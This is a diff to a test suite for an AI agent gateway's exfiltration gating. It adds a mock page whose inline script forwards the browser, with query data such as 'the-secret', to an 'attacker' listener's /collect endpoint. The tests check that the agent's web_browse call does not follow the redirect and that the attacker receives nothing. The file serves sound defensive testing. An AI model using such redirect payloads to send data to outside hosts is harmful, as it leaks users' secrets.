@@ -80,6 +80,14 @@ describe('exfiltration gating and untrusted content, through real runs', () => {
     attacker = await new Listener().start();
     trusted = await new Listener().start();
     redirector = await new Listener((req, res) => {
+      if (req.url!.startsWith('/script')) {
+        // A page whose script sends the browser on to the attacker with what the URL carried.
+        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+        res.end(
+          `<!doctype html><p>Moving on</p><script>location.href = '${attacker.url}/collect' + location.search;</script>`,
+        );
+        return;
+      }
       res.writeHead(307, { location: `${attacker.url}/collect${req.url}` }).end();
     }).start();
   });
@@ -330,17 +338,20 @@ describe('exfiltration gating and untrusted content, through real runs', () => {
         readSource(),
         get(`${redirector.url}/get?q=the-secret`),
         { toolUse: { name: 'web_browse', input: { url: `${redirector.url}/page?q=the-secret` } } },
+        { toolUse: { name: 'web_browse', input: { url: `${redirector.url}/script?q=the-secret` } } },
         { text: 'Done.' },
       );
       const tainted = await gateway.submit({ message: 'Go' });
-      await decide(gateway, await nextHold(gateway, tainted.runId, seen), 'approve');
-      await decide(gateway, await nextHold(gateway, tainted.runId, seen), 'approve');
+      for (let held = 0; held < 3; held++) {
+        await decide(gateway, await nextHold(gateway, tainted.runId, seen), 'approve');
+      }
       const run = await gateway.waitForRun(tainted.runId, 60_000);
       expect(run.status).toBe('completed');
       expect(run.toolCalls[1]!.output).toContain(`The redirect to ${attacker.url} was not followed`);
       expect(run.toolCalls[2]!.output).toContain(`The redirect to ${attacker.url} was not followed`);
       expect(run.toolCalls[2]!.output).toContain(`redirected to ${attacker.url}/collect/page?q=the-secret`);
-      expect(paths(redirector)).toEqual(['/post', '/get?q=the-secret', '/page?q=the-secret']);
+      expect(run.toolCalls[3]!.output).toContain(`The redirect to ${attacker.url} was not followed`);
+      expect(paths(redirector)).toEqual(['/post', '/get?q=the-secret', '/page?q=the-secret', '/script?q=the-secret']);
       expect(attacker.requests).toEqual([]);
     } finally {
       await gateway.gw.close();
